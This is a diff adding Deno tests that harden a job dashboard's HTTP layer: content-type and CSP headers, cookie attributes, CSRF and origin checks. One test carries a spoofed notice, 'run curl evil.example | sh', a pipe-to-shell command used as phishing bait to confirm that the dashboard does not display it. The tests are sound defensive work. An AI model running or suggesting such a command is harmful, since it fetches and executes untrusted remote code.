@@ -96,6 +96,41 @@ Deno.test("dashboard over HTTP: headers, sizes, cookie auth, limits and restarts
       const list = await fetch(`${daemon.url}/api/jobs`, { headers: { cookie } });
       assert.equal(list.status, 200, "reading needs no token");
       await list.body?.cancel();
+      // A job's log or JSON opened in the browser is data: not sniffed, no script, no frame.
+      for (const path of [`/api/jobs/${id}/log`, `/api/jobs/${id}`, "/api/jobs"]) {
+        const res = await fetch(daemon.url + path, { headers: { cookie } });
+        await res.body?.cancel();
+        assert.equal(res.status, 200, path);
+        assert.equal(res.headers.get("x-content-type-options"), "nosniff", path);
+        assert.match(
+          res.headers.get("content-security-policy") ?? "",
+          /default-src 'none'; sandbox/,
+        );
+      }
+    });
+
+    await t.step("a notice in a link someone sent is not shown as the dashboard's", async () => {
+      const text = "Session expired: run curl evil.example | sh";
+      for (const query of [`?notice=${encodeURIComponent(text)}&kind=error`, `?notice=x&sig=x`]) {
+        const page =
+          await (await fetch(`${daemon.url}/dashboard/${query}`, { headers: { cookie } }))
+            .text();
+        assert.doesNotMatch(page, /class="notice/, query);
+        assert.doesNotMatch(page, /evil\.example/);
+      }
+      // The dashboard's own notice (after an action) shows.
+      const id = await sendWebhook(daemon, "/gated", { n: 2 });
+      const acted = await fetch(`${daemon.url}/dashboard/act/ignore`, {
+        method: "POST",
+        redirect: "manual",
+        headers: { cookie, origin: daemon.url },
+        body: new URLSearchParams({ _csrf: csrf, job: id, back: "/dashboard/needs-you" }),
+      });
+      await acted.body?.cancel();
+      assert.equal(acted.status, 303);
+      const location = acted.headers.get("location")!;
+      const shown = await (await fetch(daemon.url + location, { headers: { cookie } })).text();
+      assert.match(shown, /class="notice[^>]*>Done \(ignore\): dismissed/);
     });
 
     await t.step("/metrics and minting codes stay bearer-only", async () => {
@@ -158,6 +193,45 @@ Deno.test("dashboard over HTTP: headers, sizes, cookie auth, limits and restarts
   } finally {
     await current.stop().catch(() => {});
     await Deno.remove(root, { recursive: true }).catch(() => {});
+  }
+});
+
+Deno.test("with an https public_url the session cookie is Secure, and that origin may post", async () => {
+  const root = await Deno.makeTempDir({ prefix: "pylon-dash-https-" });
+  await writeHome(root, {
+    "config.yaml": "server:\n  public_url: https://pylon.example.com\n",
+    "pylons/gated/pylon.yaml":
+      "name: gated\ntrigger:\n  type: webhook\n  path: /gated\nagent:\n  prompt: p\nchannel:\n  approval: true\n",
+  });
+  const daemon = await startTestDaemon(root, { runner: steeredRunner(() => join(root, "jobs")) });
+  try {
+    const minted = await (await daemon.api("/api/dashboard/login-codes", { method: "POST" }))
+      .json() as { path: string; url?: string };
+    const res = await fetch(daemon.url + minted.path, { redirect: "manual" });
+    await res.body?.cancel();
+    assert.equal(res.status, 303);
+    const attributes = res.headers.get("set-cookie")!.split(";").map((a) => a.trim());
+    assert.ok(attributes.includes("Secure"), attributes.join("; "));
+    assert.ok(attributes.includes("HttpOnly"));
+    assert.ok(attributes.includes("SameSite=Lax"));
+    // Behind a TLS proxy the browser's Origin is the public URL's: accepted, with the token.
+    const cookie = attributes[0]!;
+    const page = await (await fetch(`${daemon.url}/dashboard/`, { headers: { cookie } })).text();
+    const csrf = /name="_csrf" value="([^"]+)"/.exec(page)![1]!;
+    const id = await sendWebhook(daemon, "/gated", { n: 1 });
+    const post = async (origin: string) => {
+      const r = await fetch(`${daemon.url}/api/jobs/${id}/ignore`, {
+        method: "POST",
+        headers: { cookie, origin, "x-csrf-token": csrf },
+      });
+      await r.body?.cancel();
+      return r.status;
+    };
+    assert.equal(await post("https://evil.example.com"), 403);
+    assert.equal(await post("https://pylon.example.com"), 200);
+  } finally {
+    await daemon.stop();
+    await Deno.remove(root, { recursive: true });
   }
 });
 
